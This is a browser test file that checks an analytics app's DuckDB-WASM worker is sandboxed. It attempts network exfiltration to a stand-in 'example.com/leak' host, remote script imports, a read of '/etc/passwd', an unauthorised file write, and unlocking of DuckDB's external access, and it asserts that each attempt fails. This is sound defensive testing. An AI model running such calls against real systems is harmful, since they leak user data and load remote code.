import { describe, expect, test } from 'vitest';
import { appsUnderTest, engineWorkers, reportStats } from './harness.ts';

const apps = appsUnderTest();

/** The console error DuckDB-WASM logs when the engine's file guard refuses a file (file-guard.ts). */
const GUARD_REFUSAL = /^FAIL WITH: Footfall's engine reads only the files you gave it/;

describe('the engine worker, from inside', () => {
	test('cannot reach the network, and DuckDB in it reads only the files the user dropped', async () => {
		const app = await apps.open('?demo=0');
		const [worker] = await engineWorkers(app.page);
		expect(worker, 'the engine worker').toBeDefined();
		// A blob: worker inherits the page's Content-Security-Policy (client.ts).
		expect(worker.url()).toMatch(/^blob:/);
		const own = new URL(app.url).origin;
		const tried = await worker.evaluate(async (own) => {
			const scope = self as unknown as Record<string, unknown> & typeof globalThis;
			const outcome = async (attempt: () => unknown) => {
				try {
					await attempt();
					return 'succeeded';
				} catch (e) {
					return String(e);
				}
			};
			const violations: string[] = [];
			scope.violations = violations;
			self.addEventListener('securitypolicyviolation', (e) =>
				violations.push(`${e.violatedDirective} ${e.blockedURI}`)
			);
			const core = (await (scope.footfallEngine as () => Promise<unknown>)()) as {
				duck: { rows(sql: string): Promise<unknown[]> };
			};
			const sql = (text: string) => outcome(() => core.duck.rows(text));
			const result = {
				fetch: await outcome(() => fetch('http://example.com/leak?ids=u1,u2')),
				xhr: await outcome(() => {
					const x = new XMLHttpRequest();
					x.open('GET', 'http://example.com/leak', false);
					x.send();
				}),
				webSocket: await outcome(() => new WebSocket('ws://example.com/leak')),
				eventSource: await outcome(() => new EventSource('http://example.com/leak')),
				importScripts: await outcome(() =>
					(scope.importScripts as (u: string) => void)('http://example.com/x.js')
				),
				duckUrl: await sql(`SELECT * FROM read_csv('https://example.com/x.csv')`),
				duckOwnOrigin: await sql(`SELECT * FROM read_csv('${own}/data/demo-shop.csv.gz')`),
				duckFile: await sql(`SELECT * FROM read_csv('/etc/passwd')`),
				duckWrite: await sql(`COPY (SELECT 1 AS x) TO '/inputs/leak.csv'`),
				duckUnlock: await sql(`SET enable_external_access = true`),
				duckExtension: await sql(`LOAD httpfs`)
			};
			return result;
		}, own);
		// import() cannot be switched off: the page's CSP, inherited, keeps it to our origin. Passed as text so
		// the test runner does not rewrite the import() into its own loader.
		const imported = await worker.evaluate(
			`import('http://example.com/x.js').then(() => 'succeeded', (e) => String(e))`
		);
		const violations = await worker.evaluate(async () => {
			await new Promise((resolve) => setTimeout(resolve, 100));
			return (self as unknown as { violations: string[] }).violations;
		});
		const refused = /switched off in Footfall's engine: nothing leaves this machine/;
		expect(tried.fetch).toMatch(refused);
		expect(tried.xhr).toMatch(refused);
		expect(tried.webSocket).toMatch(refused);
		expect(tried.eventSource).toMatch(refused);
		expect(tried.importScripts).toMatch(refused);
		expect(imported).toMatch(/Failed to fetch dynamically imported module/);
		expect(violations).toContain('script-src-elem http://example.com/x.js');
		const denied = /Permission Error: .*disabled by configuration/;
		expect(tried.duckUrl).toMatch(denied);
		expect(tried.duckOwnOrigin).toMatch(denied);
		expect(tried.duckFile).toMatch(denied);
		expect(tried.duckWrite).toMatch(/reads only the files you gave it/);
		expect(tried.duckUnlock).toMatch(/configuration has been locked/);
		expect(tried.duckExtension).toMatch(/disabled/);
		expect(app.outside).toEqual([]);

		// A file the user drops still loads in the same worker: two rows, two users, by hand.
		await app.page.getByTestId('file-input').setInputFiles({
			name: 'after.csv',
			mimeType: 'text/csv',
			buffer: Buffer.from('user,time,event\nu1,2025-01-01T10:00:00Z,a\nu2,2025-01-02T10:00:00Z,b\n')
		});
		const stats = await reportStats(app.page);
		expect(stats.rows).toBe(2);
		expect(stats.users).toBe(2);
		expect(app.outside).toEqual([]);
		// The refused write is logged by DuckDB-WASM as a console error; any other still fails the test.
		app.errors.splice(0, app.errors.length, ...app.errors.filter((e) => !GUARD_REFUSAL.test(e)));
	});
});
